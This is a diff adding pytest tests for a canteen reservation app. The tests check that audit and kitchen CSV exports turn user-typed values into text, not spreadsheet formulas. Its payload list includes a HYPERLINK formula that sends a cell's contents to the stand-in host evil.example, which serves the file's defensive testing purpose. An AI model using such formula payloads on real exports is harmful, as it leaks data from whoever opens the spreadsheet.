@@ -1,0 +1,55 @@
+"""What people type never becomes a formula in our CSV files: the audit CSV and the kitchen's CSV,
+with the payloads of issue 13."""
+
+import csv
+import io
+import re
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from lib.services import kitchen, reservations, trail
+from tests.conftest import DEMO_NOW, DEMO_TODAY, login
+
+ROOT = Path(__file__).resolve().parents[2]
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]
+
+
+def cells(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+@pytest.mark.parametrize("reason", FORMULAS)
+def test_an_agents_reason_is_text_in_the_audit_csv(demo_db, reason):
+    agent, admin = login(demo_db, "agent@demo.fr"), login(demo_db, "admin@demo.fr")
+    _, year = reservations.school_years(demo_db, DEMO_TODAY)
+    lea = reservations.booking_context(demo_db, agent, 1, year["id"])
+    reservations.set_day(demo_db, agent, lea, lea.services[0].id, date(2026, 11, 30), False, DEMO_NOW, late=True,
+                         reason=reason)
+    rows = cells(trail.journal_csv(demo_db, admin))
+    assert rows[0] == trail.CSV_HEADERS
+    [written] = [row[4] for row in rows[1:] if row[4]]
+    assert written.startswith("'") and written[1:] in (reason, reason.strip())
+
+
+def test_site_and_diet_names_are_text_in_the_kitchen_csv_and_counts_stay_numbers(demo_db):
+    names = iter(FORMULAS)
+    demo_db.write(lambda cur: [cur.execute("UPDATE sites SET name = ? WHERE id = ?", [next(names), i]) for i in (1, 2, 3)]
+                  and [cur.execute("UPDATE diets SET label = ? WHERE code = ?", [next(names), code])
+                       for code in ("standard", "sans_porc", "vegetarien")])
+    cook = login(demo_db, "cuisine@demo.fr")
+    rows = cells(kitchen.sheet_file(demo_db, cook, date(2026, 11, 30), DEMO_NOW, "csv", count_as_printed=False))
+    body = [row for row in rows[1:] if row and row[1] != "TOTAL" and row[0] != "Statut"]
+    assert body and {row[1][1:] for row in body} <= set(FORMULAS)
+    assert {row[3][1:] for row in body if row[3] != "PAI panier-repas"} <= set(FORMULAS)
+    assert all(row[1].startswith("'") and re.fullmatch(r"\d+", row[4]) for row in body)
+
+
+def test_every_csv_file_is_written_by_the_one_function():
+    """No csv writer or DataFrame.to_csv besides lib/domain/spreadsheet.py: a new export cannot forget the rule."""
+    sources = [p for p in (ROOT / "lib").rglob("*.py")] + list((ROOT / "pages").glob("*.py")) + [ROOT / "app.py"]
+    offenders = [str(p.relative_to(ROOT)) for p in sources if p.name != "spreadsheet.py"
+                 and re.search(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|^import csv\b", p.read_text(), re.M)]
+    assert offenders == []
+
